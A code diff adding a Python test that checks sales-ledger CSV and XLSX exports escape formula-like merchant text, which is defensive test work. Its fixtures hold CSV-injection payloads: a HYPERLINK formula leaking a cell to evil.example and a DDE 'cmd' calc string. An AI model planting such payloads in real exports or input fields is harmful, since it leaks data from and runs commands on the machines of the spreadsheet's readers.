@@ -9,6 +9,7 @@ the shared platform keeps the default policy the checkout tests expect.
 from __future__ import annotations
 
 import asyncio
+import csv
 import io
 import random
 from collections.abc import AsyncIterator, Awaitable
@@ -770,6 +771,62 @@ async def test_one_serial_one_subsidy(platform: Platform, rng: random.Random) ->
     await eventually(freed)
     assert (await verify(p, sku, 300_000, serial=imei)).eligible
     await p.running["catalog"].wiring.registrations[0][1].catalog.check_serials()
+
+
+async def test_sales_ledger_exports_never_carry_a_formula(
+    platform: Platform, rng: random.Random
+) -> None:
+    """A merchant's brand and model reach the auditor's spreadsheet: a cell that would run as a
+    formula (=, +, -, @) is written as text with a leading ' in CSV and as a string in XLSX;
+    numbers stay numbers."""
+    from openpyxl import load_workbook
+
+    p = platform
+    m = await merchant(p, rng)
+    brand = '=HYPERLINK("http://evil.example/?leak="&A1,"详情")'
+    model = f"@SUM(1+1)*cmd|' /C calc'!A{rng.randrange(10**6)}"
+    sku = f"sku-{rng.randrange(10**12)}"
+    await p.catalog.RegisterProduct(
+        catalog_pb2.RegisterProductRequest(
+            sku=sku,
+            merchant_id=m,
+            category="phone",
+            grade=0,
+            brand=brand,
+            model=model,
+            list_price_fen=300_000,
+        )
+    )
+    pool = await p.pool(rng, 10_000_000)
+    order = await checkout(p, rng, sku, 300_000, pool)
+    await p.ledger.CaptureSubsidy(ledger_pb2.CaptureSubsidyRequest(order_id=order))
+
+    async def captured() -> catalog_pb2.SalesLedger:
+        got = await p.catalog.GetSalesLedger(catalog_pb2.GetSalesLedgerRequest(merchant_id=m))
+        assert [(r.sku, r.sold_units) for r in got.rows] == [(sku, 1)]
+        return got
+
+    ledger = await eventually(captured)
+    assert (ledger.rows[0].brand, ledger.rows[0].model) == (brand, model)  # the API: as typed
+
+    export = await p.catalog.ExportSalesLedger(
+        catalog_pb2.ExportSalesLedgerRequest(format="csv", merchant_id=m)
+    )
+    header, row = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
+    assert header[3:5] == ["品牌 brand", "型号 model"]
+    assert row[:5] == [m, sku, "phone", "'" + brand, "'" + model]
+    assert row[5:] == ["1", "300000", "45000", "0", "0", "0", "1", "45000"]  # no ' on numbers
+
+    xlsx = await p.catalog.ExportSalesLedger(
+        catalog_pb2.ExportSalesLedgerRequest(format="xlsx", merchant_id=m)
+    )
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    assert sheet is not None
+    (cells,) = sheet.iter_rows(min_row=2, max_row=2)
+    assert [c.value for c in cells[:5]] == [m, sku, "phone", "'" + brand, "'" + model]
+    assert {c.data_type for c in cells[:5]} == {"s"}  # text, not a formula ("f")
+    assert [c.value for c in cells[5:]] == [1, 300_000, 45_000, 0, 0, 0, 1, 45_000]
+    assert {c.data_type for c in cells[5:]} == {"n"}
 
 
 async def test_sales_ledger_rebuilds_identically_from_events(
